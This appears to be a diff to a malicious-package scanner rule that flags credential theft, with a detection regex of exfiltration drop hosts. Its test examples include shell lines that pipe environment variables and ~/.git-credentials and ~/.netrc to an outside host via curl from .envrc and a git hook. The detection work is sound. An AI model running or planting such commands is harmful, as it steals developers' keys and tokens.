@@ -16,6 +16,7 @@ import { requestsOf } from '../code/requestsOf.ts';
 import { backwardSlice } from '../../program/backwardSlice.ts';
 import { apisIn } from '../../program/madeOf.ts';
 import { say } from '../../../texts/say.ts';
+import { commandHits } from './commandHits.ts';
 import { takings, METADATA } from './packageTakings.ts';
 
 const WHO = [
@@ -31,6 +32,32 @@ const WHO = [
 const DROPS =
   /discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|webhook\.site|pipedream\.net|\.ngrok\b|\.oast\.|burpcollaborator|interact\.sh|requestbin|hookbin/;
 
+const inScripts = checkScripts(function* ({ script, file, hit }) {
+  const taken = takings(script);
+  const streamed = writtenTo(script);
+  for (const request of requestsOf(script)) {
+    if (isOwnComputer(request.to) || METADATA.test(request.to)) continue;
+    const sent = [...request.sent.filter((value) => value !== request.address), ...(streamed.get(request.value) ?? [])];
+    const from = new Set(sent.flatMap((value) => [...backwardSlice(script, value)]));
+    const source = [...taken].find(([value]) => from.has(value));
+    const paths = new Set(sent.flatMap((value) => [...apisIn(script, value)]));
+    if (source !== undefined) yield hit(request.value, { message: say('sends-to-server', source[1]) });
+    else if (sendsEnvironment(script, sent)) yield hit(request.value, { message: say('whole-environment-sent') });
+    else if (WHO.filter((path) => paths.has(path)).length >= 2)
+      yield hit(request.value, {
+        severity: 'high',
+        confidence: 'medium',
+        message: say('user-and-machine-sent'),
+      });
+    else if (taken.size > 0 && DROPS.test(request.to))
+      yield hit(request.value, {
+        confidence: 'medium',
+        message: say('reads-keys-leaves-data'),
+      });
+  }
+  yield* lookups(script, file.path);
+});
+
 export const packageStealsData = defineRule({
   id: 'package-steals-data',
   title: 'Credential theft: sends keys of whoever runs it',
@@ -42,36 +69,14 @@ export const packageStealsData = defineRule({
   references: ['https://attack.mitre.org/techniques/T1552/', 'https://github.com/ossf/malicious-packages'],
   why: 'Compromised packages read the environment, tokens and key files of developers and build machines. The attacker then publishes more packages with them.',
   remedy: 'Do not install or run it. If it ran, rotate every key the machine could read.',
-  check: checkScripts(function* ({ script, file, hit }) {
-    const taken = takings(script);
-    const streamed = writtenTo(script);
-    for (const request of requestsOf(script)) {
-      if (isOwnComputer(request.to) || METADATA.test(request.to)) continue;
-      const sent = [
-        ...request.sent.filter((value) => value !== request.address),
-        ...(streamed.get(request.value) ?? []),
-      ];
-      const from = new Set(sent.flatMap((value) => [...backwardSlice(script, value)]));
-      const source = [...taken].find(([value]) => from.has(value));
-      const paths = new Set(sent.flatMap((value) => [...apisIn(script, value)]));
-      if (source !== undefined) yield hit(request.value, { message: say('sends-to-server', source[1]) });
-      else if (sendsEnvironment(script, sent)) yield hit(request.value, { message: say('whole-environment-sent') });
-      else if (WHO.filter((path) => paths.has(path)).length >= 2)
-        yield hit(request.value, {
-          severity: 'high',
-          confidence: 'medium',
-          message: say('user-and-machine-sent'),
-        });
-      else if (taken.size > 0 && DROPS.test(request.to))
-        yield hit(request.value, {
-          confidence: 'medium',
-          message: say('reads-keys-leaves-data'),
-        });
-    }
-    yield* lookups(script, file.path);
-  }),
+  *check(facts) {
+    yield* inScripts(facts);
+    yield* commandHits(facts, { 'sends-secrets': 'command-sends-keys' });
+  },
   examples: {
     bad: [
+      { files: { '.envrc': 'env | curl -s -X POST --data-binary @- https://sync.dev/i\n' } },
+      { files: { '.husky/post-checkout': 'cat ~/.git-credentials ~/.netrc | curl -d @- https://sync.dev/c\n' } },
       {
         files: {
           'index.js':
@@ -104,6 +109,9 @@ export const packageStealsData = defineRule({
       { files: { 'index.js': "require('dns').lookup(require('os').hostname() + '.x.collect.dev', () => {});\n" } },
     ],
     good: [
+      {
+        files: { 'a.sh': 'curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user\nenv | sort\n' },
+      },
       {
         files: {
           'index.js':
